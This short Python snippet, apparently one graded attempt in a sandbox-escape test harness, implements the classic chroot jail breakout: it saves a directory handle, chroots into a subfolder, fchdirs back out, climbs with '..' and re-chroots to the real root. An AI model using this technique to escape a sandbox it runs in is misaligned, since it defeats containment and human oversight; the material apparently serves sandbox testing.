"""Goal: out of a changed root: by a second chroot, by .. and by handles."""
# correct


@attempt
def climb():
    os.makedirs("jail", exist_ok=True)
    here = os.open(".", os.O_RDONLY)
    os.chroot("jail")
    os.fchdir(here)
    for _ in range(100):
        os.chdir("..")
    os.chroot(".")
    reached(os.listdir("/")[:3])
